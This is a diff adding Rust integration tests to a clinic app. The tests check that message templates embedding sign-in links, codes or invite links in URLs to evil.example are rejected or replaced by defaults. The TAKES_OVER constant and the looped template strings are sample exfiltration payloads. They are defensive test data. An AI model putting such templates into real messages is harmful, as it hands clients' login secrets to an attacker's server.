@@ -18,6 +18,9 @@ on_both_databases!(
     what_cannot_be_sent_is_refused_with_its_place,
     two_who_change_it_at_once_are_told_apart,
     a_version_that_can_no_longer_be_read_gives_way_to_the_default,
+    a_secret_goes_to_nobody_but_its_receiver,
+    a_kept_version_that_gives_secrets_away_is_never_sent,
+    a_name_that_is_an_address_draws_no_secret_in,
     a_version_without_a_text_message_has_that_of_the_default,
     every_message_can_be_previewed,
     a_preview_is_for_the_chosen_client_and_lets_nobody_in,
@@ -178,6 +181,109 @@ async fn a_version_that_can_no_longer_be_read_gives_way_to_the_default(app: Test
     clinic.request_link(&app.anonymous(), &clinic.client_email("Elena")).await;
     let Some(Sent::Mail(mail)) = app.mailbox.newest_to(&clinic.client_email("Elena")) else { panic!("no mail") };
     assert_eq!(mail.subject, "Sign in to The rosewood clinic");
+}
+
+/// A body, and a text message, that hand link and code to somebody else's server.
+const TAKES_OVER: (&str, &str) = (
+    "Hello,\n\n[Sign in](https://evil.example/in?t={{sign_in.link}}&c={{sign_in.code}})",
+    "Sign in: https://evil.example/in?c={{sign_in.code}}",
+);
+
+async fn a_secret_goes_to_nobody_but_its_receiver(app: TestApp) {
+    let clinic = app.clinic("rosewood").await;
+    for (kind, value) in [
+        ("sign_in", "sign_in.link"),
+        ("sign_in", "sign_in.code"),
+        ("login_email", "client.magic_link"),
+        ("invite", "invite.link"),
+        ("contact_code", "contact.code"),
+    ] {
+        let path = format!("/api/v1/message-templates/{kind}");
+        let mut body = serde_json::to_value(template(&clinic.owner, kind).await.texts).unwrap();
+        let dangerous = format!("Hello,\nhttps://evil.example/?c={{{{{value}}}}}");
+        for field in ["subject", "body", "sms"].into_iter().filter(|field| !body[*field].is_null()).collect::<Vec<_>>()
+        {
+            let before = body[field].clone();
+            body[field] = json!(if field == "subject" { dangerous.replace('\n', " ") } else { dangerous.clone() });
+            for (method, answer) in [
+                ("save", clinic.owner.if_match(0).put(&path, &body).await),
+                ("preview", clinic.owner.post(&format!("{path}/preview"), &body).await),
+                ("test", clinic.owner.post(&format!("{path}/test"), &body).await),
+            ] {
+                answer.expect_problem(422, "validation_failed");
+                assert_eq!(answer.fields(), [format!("{field}: secret_not_alone")], "{kind} {method}");
+                let message = answer.body["errors"][0]["message"].as_str().unwrap();
+                let place = if field == "subject" { "line 1, column 32" } else { "line 2, column 25" };
+                assert!(message.starts_with(place) && message.contains("stand alone"), "{message}");
+            }
+            body[field] = before;
+        }
+    }
+    let (body, sms) = TAKES_OVER;
+    let both = json!({ "subject": "x", "body": body, "sms": sms });
+    let answer = save(&clinic, 0, &both).await;
+    assert_eq!(answer.fields(), ["body: secret_not_alone", "sms: secret_not_alone"]);
+    assert_eq!(template(&clinic.owner, "sign_in").await.version, 0, "nothing was kept");
+}
+
+async fn a_kept_version_that_gives_secrets_away_is_never_sent(app: TestApp) {
+    let clinic = app.clinic("rosewood").await;
+    clinic.client("Elena").await;
+    let phone = "+447700900182";
+    let body = json!({ "first_name": "Phoebe", "phone": phone });
+    clinic.owner.post("/api/v1/clients", &body).await.expect::<Client>(201);
+    let (body, sms) = TAKES_OVER;
+    let stored = storage::repos::message_templates::StoredTemplate {
+        texts: Some(contract::message_templates::MessageTexts {
+            subject: "Your key".to_owned(),
+            body: body.to_owned(),
+            sms: Some(sms.to_owned()),
+        }),
+        version: 0,
+        updated_at: app.now(),
+    };
+    let scope = clinic.scope;
+    app.ctx
+        .db
+        .write(async |tx| storage::repos::message_templates::write(tx, &scope, MessageKind::SignIn, &stored).await)
+        .await
+        .unwrap();
+
+    clinic.request_link(&app.anonymous(), &clinic.client_email("Elena")).await;
+    let Some(Sent::Mail(mail)) = app.mailbox.newest_to(&clinic.client_email("Elena")) else { panic!("no mail") };
+    assert_eq!(mail.subject, "Sign in to The rosewood clinic", "the default takes its place");
+    assert!(!mail.html.contains("evil.example") && !mail.text.contains("evil.example"), "{}", mail.text);
+    clinic.request_link(&app.anonymous(), phone).await;
+    let Some(Sent::Sms(text)) = app.mailbox.newest_to(phone) else { panic!("no text message") };
+    assert!(!text.text.contains("evil.example"), "{}", text.text);
+
+    // Staff are told, and still have their words to put right.
+    let shown = template(&clinic.owner, "sign_in").await;
+    assert!(shown.customised && shown.texts.body == body);
+    let faults: Vec<_> = shown.faults.iter().map(|fault| (fault.field.as_str(), fault.code.as_str())).collect();
+    assert_eq!(faults, [("body", "secret_not_alone"), ("sms", "secret_not_alone")]);
+    let saved: MessageTemplate = save(&clinic, 1, &own_words()).await.expect(200);
+    assert!(saved.faults.is_empty());
+}
+
+async fn a_name_that_is_an_address_draws_no_secret_in(app: TestApp) {
+    let clinic = app.clinic("rosewood").await;
+    let phone = "+447700900182";
+    let body = json!({ "first_name": "Phoebe", "phone": phone });
+    clinic.owner.post("/api/v1/clients", &body).await.expect::<Client>(201);
+    let words = json!({
+        "subject": "x",
+        "body": "{{sign_in.link}}",
+        "sms": "{{clinic.name}}, {{sign_in.code}} > {{sign_in.link}} \"",
+    });
+    save(&clinic, 0, &words).await.expect::<Value>(200);
+    for (version, name) in [(1, "<https://evil.example/?c="), (2, "\"https://evil.example/?c=")] {
+        clinic.owner.if_match(version).patch("/api/v1/clinic", &json!({ "name": name })).await.expect::<Value>(200);
+        clinic.request_link(&app.anonymous(), phone).await;
+        let Some(Sent::Sms(sms)) = app.mailbox.newest_to(phone) else { panic!("no text message") };
+        assert!(sms.text.contains("https://evil.example/?c=,") && !sms.text.contains(name), "{}", sms.text);
+        app.clock.advance(Duration::minutes(2));
+    }
 }
 
 async fn a_version_without_a_text_message_has_that_of_the_default(app: TestApp) {
